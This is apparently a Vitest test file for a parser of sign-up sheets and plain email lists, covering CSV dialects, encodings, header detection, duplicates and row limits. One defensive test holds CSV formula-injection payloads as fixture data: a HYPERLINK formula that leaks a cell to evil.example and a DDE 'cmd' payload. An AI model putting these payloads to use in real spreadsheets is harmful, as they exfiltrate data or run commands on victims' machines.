// Tests for sign-up sheet parsing: one fixture per CSV dialect and per kind of bad row, plus plain lists.
import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { parsePlainList, parseSheet } from './sheet.ts';

const fixture = (name: string) => readFileSync(fileURLToPath(new URL(`../../test/fixtures/sheets/${name}`, import.meta.url)));
const emails = (r: ReturnType<typeof parseSheet>) => r.rows.map((x) => x.email);

describe('parseSheet: dialects', () => {
  it('comma-separated with a quoted field holding a comma, extra columns as attributes', () => {
    const r = parseSheet(fixture('comma.csv'));
    expect(r.error).toBeUndefined();
    expect(r.columns).toEqual({ email: 'Email', name: ['Name'], attributes: ['City', 'Can offer'] });
    expect(r.rows[0]).toEqual({ row: 2, email: 'ada@example.org', name: 'Ada Lovelace', attributes: { City: 'Toronto', 'Can offer': 'Mentoring, code review' } });
    expect(r.rows[1]).toMatchObject({ email: 'grace.hopper@example.com', attributes: { City: 'Arlington' } });
    expect(r.rows[2]).toMatchObject({ row: 4, name: "O'Brien, Pat" });
    expect(r.skipped).toEqual([]);
  });

  it('semicolon-separated, Windows-1252, French headers Nom/Prénom/Courriel', () => {
    const r = parseSheet(fixture('french-semicolon-1252.csv'));
    expect(r.columns).toEqual({ email: 'Courriel', name: ['Prénom', 'Nom'], attributes: ['Ville', 'Intérêts'] });
    expect(r.rows).toEqual([
      { row: 2, email: 'helene@exemple.fr', name: 'Hélène Lefèvre', attributes: { Ville: 'Montréal', Intérêts: 'Café, vélo' } },
      { row: 3, email: 'emile.durand@exemple.fr', name: 'Émile Durand', attributes: { Ville: 'Québec' } },
    ]);
  });

  it('tab-separated, email column not first', () => {
    const r = parseSheet(fixture('tab.tsv'));
    expect(r.columns).toEqual({ email: 'E-mail', name: ['Full name'], attributes: ['Organisation'] });
    expect(r.rows[1]).toEqual({ row: 3, email: 'gabe@example.ca', name: 'Gabe Sawhney', attributes: { Organisation: 'Civic Tech TO' } });
  });

  it('UTF-8 BOM does not leak into the first header', () => {
    const r = parseSheet(fixture('bom.csv'));
    expect(r.columns.email).toBe('Email');
    expect(emails(r)).toEqual(['ada@example.org']);
  });

  it("Excel's Unicode text export (UTF-16LE, tabs) with an IDN domain", () => {
    const r = parseSheet(fixture('excel-unicode.txt'));
    expect(r.rows.map((x) => [x.email, x.name])).toEqual([
      ['jose@xn--exmple-cua.com', 'José Núñez'],
      ['li.lei@example.cn', '李雷'],
    ]);
  });

  it('Excel "sep=;" first line sets the delimiter and counts as a row', () => {
    const r = parseSheet(fixture('sep-line.csv'));
    expect(r.rows).toEqual([{ row: 3, email: 'ada@example.org', name: 'Ada', attributes: {} }]);
  });

  it('a quoted multi-line cell is one row; row numbers are spreadsheet rows (blank lines count)', () => {
    const r = parseSheet(fixture('multiline.csv'));
    expect(r.rows.map((x) => x.row)).toEqual([2, 3]);
    expect(r.rows[0]!.attributes.notes).toBe('first line\nsecond line\nthird line');
    expect(r.rows[1]!.attributes.notes).toBe('she said "hi"');
    expect(r.skipped).toEqual([{ row: 5, reason: 'invalid address', raw: 'bad-address' }]);
  });

  it('strings work as well as buffers', () => {
    expect(emails(parseSheet('email\nada@example.org\n'))).toEqual(['ada@example.org']);
  });
});

describe('parseSheet: columns', () => {
  it('first and last name columns are joined, either may be empty', () => {
    const r = parseSheet(fixture('first-last.csv'));
    expect(r.columns).toEqual({ email: 'Email Address', name: ['First Name', 'Last Name'], attributes: ['Interests'] });
    expect(r.rows.map((x) => x.name)).toEqual(['Ada Lovelace', 'Grace', 'Turing']);
  });

  it('no header: the email column and a name column are found by content', () => {
    const r = parseSheet(fixture('no-header.csv'));
    expect(r.columns).toEqual({ email: 'column 2', name: ['column 1'], attributes: ['column 3'] });
    expect(r.rows[0]).toEqual({ row: 1, email: 'ada@example.org', name: 'Ada Lovelace', attributes: { 'column 3': 'Toronto' } });
    expect(r.rows).toHaveLength(3);
  });

  it('among several email-ish headers, the one holding addresses wins ("Email opt-in" vs "Email")', () => {
    const r = parseSheet(fixture('email-opt-in.csv'));
    expect(r.columns.email).toBe('Email');
    expect(r.rows[0]).toEqual({ row: 2, email: 'ada@example.org', name: 'Ada', attributes: { 'Email opt-in': 'yes' } });
  });

  it('headers in other languages and spellings', () => {
    const cases: [string, string, string[]][] = [
      ['Nombre,Apellidos,Correo electrónico\nAna,García,ana@ejemplo.es\n', 'Correo electrónico', ['Nombre', 'Apellidos']],
      ['Vorname;Nachname;E-Mail-Adresse\nJörg;Müller;joerg@beispiel.de\n', 'E-Mail-Adresse', ['Vorname', 'Nachname']],
      ['Nome completo,Indirizzo email\nLuca Rossi,luca@esempio.it\n', 'Indirizzo email', ['Nome completo']],
      ['Your email,Your name\nada@example.org,Ada\n', 'Your email', ['Your name']],
      ['Adresse courriel,Nom complet\nada@example.org,Ada\n', 'Adresse courriel', ['Nom complet']],
      ['Name,Surname,Mail\nAda,Lovelace,ada@example.org\n', 'Mail', ['Name', 'Surname']],
    ];
    for (const [csv, email, name] of cases) {
      const r = parseSheet(csv);
      expect(r.columns.email).toBe(email);
      expect(r.columns.name).toEqual(name);
      expect(r.rows).toHaveLength(1);
    }
  });

  it('a sheet without any email column says so', () => {
    const r = parseSheet(fixture('no-email-column.csv'));
    expect(r.error).toBe('no-email-column');
    expect(r.rows).toEqual([]);
    expect(r.columns.email).toBeNull();
  });

  it('an empty file has no email column', () => {
    expect(parseSheet('').error).toBe('no-email-column');
  });

  it('an email column cell written as "Name <address>" gives the name when there is no name column', () => {
    const r = parseSheet('email,city\n"Ada Lovelace <ada@example.org>",Toronto\n');
    expect(r.rows[0]).toMatchObject({ email: 'ada@example.org', name: 'Ada Lovelace' });
  });
});

describe('parseSheet: bad rows and limits', () => {
  it('duplicates by normalized address (case, spaces, punycode) keep the first', () => {
    const r = parseSheet(fixture('duplicates.csv'));
    expect(emails(r)).toEqual(['ada@example.org', 'hans@xn--bcher-kva.example', 'grace@example.com']);
    expect(r.skipped).toEqual([
      { row: 3, reason: 'duplicate', raw: 'ada@example.org' },
      { row: 5, reason: 'duplicate', raw: 'hans@xn--bcher-kva.example' },
    ]);
  });

  it('every bad row is skipped with its reason and row number', () => {
    const r = parseSheet(fixture('bad-addresses.csv'));
    expect(emails(r)).toEqual(['ada@example.org']);
    expect(r.skipped.map((s) => [s.row, s.reason])).toEqual([
      [3, 'no email'],
      [4, 'invalid address'],
      [5, 'invalid address'],
      [6, 'invalid address'],
      [7, 'invalid address'],
    ]);
    expect(r.skipped[1]!.raw).toBe('ada(at)example.org');
  });

  it('formula-looking cells are kept as text, never evaluated; a formula is not an address', () => {
    const r = parseSheet(fixture('formulas.csv'));
    expect(r.rows).toEqual([
      { row: 2, email: 'ada@example.org', name: '=HYPERLINK("http://evil.example/?x="&A1;"click")', attributes: { note: '@SUM(1+1)', phone: '+1 555 0100' } },
    ]);
    expect(r.skipped).toEqual([{ row: 3, reason: 'invalid address', raw: "=cmd|' /C calc'!A0" }]);
  });

  it('more data rows than maxRows refuses the whole sheet', () => {
    const r = parseSheet(fixture('too-many-rows.csv'), { maxRows: 10 });
    expect(r.error).toBe('too-many-rows');
    expect(r.rows).toEqual([]);
    expect(parseSheet(fixture('too-many-rows.csv'), { maxRows: 12 }).rows).toHaveLength(12);
  });

  it('defaults to 5,000 rows', () => {
    const big = (n: number) => 'email\n' + Array.from({ length: n }, (_, i) => `p${i}@example.org`).join('\n') + '\n';
    expect(parseSheet(big(5_000)).rows).toHaveLength(5_000);
    expect(parseSheet(big(5_001)).error).toBe('too-many-rows');
  });
});

describe('parsePlainList', () => {
  it('reads Name <email>, "email, name", bare addresses and comma-separated address lines', () => {
    const r = parsePlainList(fixture('plain-list.txt').toString('utf8'));
    expect(r.rows).toEqual([
      { row: 1, email: 'ada@example.org', name: 'Ada Lovelace', attributes: {} },
      { row: 2, email: 'grace@example.com', name: 'Grace Hopper', attributes: {} },
      { row: 4, email: 'alan@example.co.uk', name: null, attributes: {} },
      { row: 8, email: 'pat@example.net', name: null, attributes: {} },
      { row: 8, email: 'sam@example.net', name: null, attributes: {} },
    ]);
    expect(r.skipped).toEqual([
      { row: 5, reason: 'duplicate', raw: 'ada@example.org' },
      { row: 6, reason: 'no email', raw: 'not an address line' },
      { row: 7, reason: 'invalid address', raw: 'broken@address' },
    ]);
    expect(r.error).toBeUndefined();
  });

  it('text without any address is an error, and too many lines are refused', () => {
    expect(parsePlainList('hello\nworld\n').error).toBe('no-email-column');
    expect(parsePlainList('a@example.org\nb@example.org\nc@example.org\n', { maxRows: 2 }).error).toBe('too-many-rows');
  });
});
